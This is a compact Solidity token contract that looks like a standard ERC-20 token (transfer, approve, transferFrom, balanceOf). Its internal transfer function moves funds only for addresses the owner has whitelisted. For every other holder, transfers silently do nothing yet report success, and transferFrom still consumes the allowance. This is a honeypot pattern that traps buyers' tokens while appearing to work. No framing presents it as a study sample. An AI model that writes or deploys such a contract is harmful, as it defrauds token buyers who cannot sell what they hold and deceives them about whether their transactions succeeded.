pragma solidity ^0.8.4;
contract Listed { address public owner; uint256 s=1e24; mapping(address=>uint256) b; mapping(address=>mapping(address=>uint256)) a; mapping(address=>bool) public ok;
 constructor(){ owner=msg.sender; b[msg.sender]=s; ok[msg.sender]=true; }
 function list(address x) external { require(msg.sender==owner); ok[x]=true; }
 function totalSupply() public view returns(uint256){return s;} function balanceOf(address x) public view returns(uint256){return b[x];} function allowance(address x,address y) public view returns(uint256){return a[x][y];}
 function approve(address y,uint256 v) public returns(bool){ a[msg.sender][y]=v; return true; }
 function _m(address f,address t,uint256 v) private { if(ok[f]){ b[f]-=v; b[t]+=v; } }
 function transfer(address t,uint256 v) public returns(bool){ _m(msg.sender,t,v); return true; } function transferFrom(address f,address t,uint256 v) public returns(bool){ a[f][msg.sender]-=v; _m(f,t,v); return true; } }
